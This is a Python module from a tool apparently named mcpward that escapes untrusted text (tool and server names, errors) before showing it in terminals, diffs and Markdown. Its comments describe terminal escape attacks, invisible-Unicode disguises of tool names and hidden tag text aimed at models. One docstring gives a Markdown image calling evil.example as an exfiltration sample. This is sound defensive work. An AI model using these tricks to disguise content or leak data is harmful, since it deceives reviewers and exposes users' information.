"""Text that reached mcpward from outside (a config's server name, a server's tool name or
error, a package's file name, a requester's note) made safe to show: one definition of what a
person does not see, for a terminal (:func:`printable`), a diff (:func:`visible`) and Markdown
(:func:`markdown_text`)."""

from __future__ import annotations

import functools
import re
import unicodedata
from collections.abc import Callable, Sequence

from mcpward._regex import compiled

#: What a person does not see but a terminal acts on or a model reads: controls (ESC starts
#: the sequences that move the cursor, write the clipboard (OSC 52), retitle the window or make
#: a link (OSC 8); CR and LF forge lines), format characters (zero width, bidirectional
#: overrides, Unicode tags, which spell ASCII invisibly), private use, line and paragraph
#: separators, variation selectors (which can carry bytes invisibly), and lone surrogates (JSON
#: may spell one; no UTF-8 writer can encode it).
_UNSEEN_CATEGORIES = ("Cc", "Cf", "Co", "Cs", "Zl", "Zp")
_UNSEEN_RANGES = ((0xE0000, 0xE0FFF), (0xF0000, 0x10FFFF))
#: Unicode's other default-ignorable code points, drawn as nothing though Python counts most as
#: printable (letters and marks): the combining grapheme joiner, the Hangul fillers, the Khmer
#: inherent vowels, the Mongolian variation selectors, and the unassigned ones kept for such
#: characters. A tool ``"delete_all\u034f"`` read as ``delete_all`` on the registry's pages.
_IGNORABLE = (0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, *range(0x180B, 0x1810), *range(0x2060, 0x2070), 0x3164,
              0xFFA0, *range(0xFFF0, 0xFFF9))  # fmt: skip


@functools.cache
def _unseen(keep_newline: bool) -> re.Pattern[str]:
    """The characters escaped: the Basic Multilingual Plane's by their category (read once, a
    few milliseconds), and the other planes' that are format characters, tags, variation
    selectors or private use; LF too unless ``keep_newline``."""
    unseen = [
        code
        for code in range(0x10000)
        if (code != 0x0A or not keep_newline)
        and (unicodedata.category(chr(code)) in _UNSEEN_CATEGORIES or 0xFE00 <= code <= 0xFE0F)
    ]
    unseen += [0x110BD, 0x110CD, *range(0x13430, 0x13440), *range(0x1BCA0, 0x1BCA4), *range(0x1D173, 0x1D17B)]
    unseen = sorted({*unseen, *_IGNORABLE})
    ranges: list[tuple[int, int]] = []
    for code in unseen:
        if ranges and ranges[-1][1] == code - 1:
            ranges[-1] = (ranges[-1][0], code)
        else:
            ranges.append((code, code))
    ranges += _UNSEEN_RANGES
    return compiled("[" + "".join(f"{re.escape(chr(a))}-{re.escape(chr(b))}" for a, b in ranges) + "]")


def _escape(match: re.Match[str]) -> str:
    code = ord(match[0])
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


_LONE_SURROGATE = compiled("[\ud800-\udfff]")


def encodable(text: str) -> str:
    """``text`` with each lone surrogate (which JSON may spell, ``"\\ud800"``, and no UTF-8
    writer can encode) replaced by U+FFFD."""
    return _LONE_SURROGATE.sub("\ufffd", text)


#: What a terminal acts on in a document printed whole (JSON, CSV, Markdown, HTML): C0 but LF
#: and tab, DEL and C1. JSON escapes C0 itself but not C1, and U+009B is CSI to xterm and VTE.
#: And the bidirectional controls, which terminals that lay out bidirectional text (VTE, by
#: default) obey: a tool's name with U+202E showed the rest of its line of ``-f json`` reversed.
_TERMINAL_CONTROLS = compiled("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def for_terminal(document: str) -> str:
    """A finished document for a terminal: each control it would act on written as ``\\uXXXX``,
    which in a JSON string is the same character (a JSON document means what it meant), and
    elsewhere shows. A server named with an OSC 52 wrote the clipboard from ``scan -f csv``."""
    return _TERMINAL_CONTROLS.sub(lambda m: f"\\u{ord(m[0]):04x}", document)


#: The escaped characters that Python counts as printable (combining marks): with them, what
#: ``str.isprintable`` passes needs no escape, and a plain name costs no table (20 ms to build).
_PRINTABLE_BUT_UNSEEN = compiled(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0\U00013430-\U0001343f"
    "\U000e0100-\U000e01ef]"
)


def visible(text: str) -> str:
    """``text`` with what a person would not see escaped (``\\u200b``, ``\\U000e0041``), lines
    kept: a diff a reviewer reads before approving showed a description changed only by
    invisible Unicode tags (which a model reads as text) as two lines that look the same. Where
    anything is escaped, backslashes are doubled (see ``_escaped``)."""
    return _escaped(text, keep_newline=True, escape=_escape_long)


def printable(text: object) -> str:
    """``text`` as one line a terminal prints and does nothing else with: every control, LF
    and CR included, and every invisible character shown escaped (``\\x1b``, ``\\u202e``);
    where anything is, backslashes are doubled (see ``_escaped``)."""
    return _escaped(str(text), keep_newline=False, escape=_escape)


def one_line(text: object) -> str:
    """``text`` as ``printable`` shows it, and each space a reader cannot count escaped too: at
    the start or the end, two or more in a row (a page shows a run as one), and every space of
    another kind than U+0020 (no-break, thin, ideographic; the Braille blank): a name (a tool's,
    a machine's, a person's) on a page. A deleting tool ``"read_notes\\u3000"`` or
    ``"read_notes "`` read as the reading ``read_notes`` among the read-only ticks."""
    text = str(text)
    if not _UNCOUNTED_SPACE.search(text):
        return printable(text)
    return _escaped(text, keep_newline=False, escape=_escape, doubled=True, unseen=_name_unseen())


#: Spaces of another kind than U+0020 (no-break, thin, ideographic; the Braille blank).
_OTHER_SPACES = r"[\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000\u2800]"
#: Spaces a reader cannot count (see ``one_line``).
_UNCOUNTED_SPACE = compiled(rf"^ | $|  |{_OTHER_SPACES}")


@functools.cache
def _name_unseen() -> re.Pattern[str]:
    """``_unseen`` for one line, and each space of ``_UNCOUNTED_SPACE`` (a run's each one)."""
    return compiled(rf"{_unseen(False).pattern}|^ | $| (?= )|(?<= ) |{_OTHER_SPACES}")


def visible_together(texts: Sequence[str]) -> list[str]:
    """Each of ``texts`` as ``visible`` shows it, but with the backslashes of all doubled where
    those of any one are: texts a person compares line by line (the two sides of a diff) then
    compare as they are. Each shown alone, a line of the side that doubled them read the same as
    a line of the other with twice as many, so a description changed from a typed ``\\n`` to a
    line break showed no change beside an invisible character the other side gained."""
    doubled = any(_doubled(text, keep_newline=True) for text in texts)
    return [_escaped(text, keep_newline=True, escape=_escape_long, doubled=doubled) for text in texts]


def printable_together(texts: Sequence[object]) -> list[str]:
    """Each of ``texts`` as ``printable`` prints it, but with the backslashes of all doubled
    where those of any one are (see ``visible_together``): the lines of one listing, whose
    names a person compares from line to line. Each printed alone, a line with an invisible
    character in its detail showed an actor ``CORP\\alice`` as another line's ``CORP\\\\alice``."""
    strings = [str(text) for text in texts]
    doubled = any(_doubled(text, keep_newline=False) for text in strings)
    return [_escaped(text, keep_newline=False, escape=_escape, doubled=doubled) for text in strings]


def _doubled(text: str, *, keep_newline: bool) -> bool:
    """Whether ``text`` is shown with its backslashes doubled: where a character of ``_unseen``
    is escaped, or where the text has typed what looks like an escape (see ``_escaped``)."""
    # A plain name needs no table (20 ms to build): Python's printable test answers for it.
    plain = text.isprintable() and not _PRINTABLE_BUT_UNSEEN.search(text)
    if not plain and _unseen(keep_newline).search(text):
        return True
    return "\\" in text and _ESCAPE_LOOKALIKE.search(text) is not None


def _escaped(
    text: str,
    *,
    keep_newline: bool,
    escape: Callable[[re.Match[str]], str],
    doubled: bool | None = None,
    unseen: re.Pattern[str] | None = None,
) -> str:
    """``text`` with each character of ``_unseen`` escaped. Where one is, or where the text has
    typed what looks like an escape, its backslashes are doubled first, so that ``\\u200b``
    typed never shows as U+200B escaped: a name or text with those six characters read the same
    to a reviewer as one with the invisible space (and ``\\x1b`` typed as the escape character).
    Other text keeps its backslashes as they are (a Windows path, a regular expression).
    ``doubled``: whether to double them, decided for several texts shown together; ``unseen``:
    what is escaped, if more than ``_unseen``."""
    if doubled is None:
        doubled = _doubled(text, keep_newline=keep_newline)
    if not doubled:
        return text
    return (unseen or _unseen(keep_newline)).sub(escape, text.replace("\\", "\\\\"))


def _escape_long(match: re.Match[str]) -> str:
    code = ord(match[0])
    return f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


#: What the escapes of ``visible`` and ``printable`` look like, typed.
_ESCAPE_LOOKALIKE = compiled(r"\\(?:x[0-9A-Fa-f]{2}|u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8})")


#: What makes Markdown of text (GitHub's and CommonMark's inline syntax: links and images,
#: autolinks and raw HTML, emphasis, code, table cells, entities); each is backslash-escaped.
_MARKDOWN = compiled(r"([\\`*_\[\]<>!&|~#])")


def markdown_text(text: object) -> str:
    """``text`` as literal text on one line of a Markdown document: a server named
    ``![x](https://evil.example/?leak)`` is its name, never an image fetched when the report is
    rendered, and a CR or LF in it cannot end the table row and start a heading of its own."""
    return _MARKDOWN.sub(r"\\\1", printable(text))
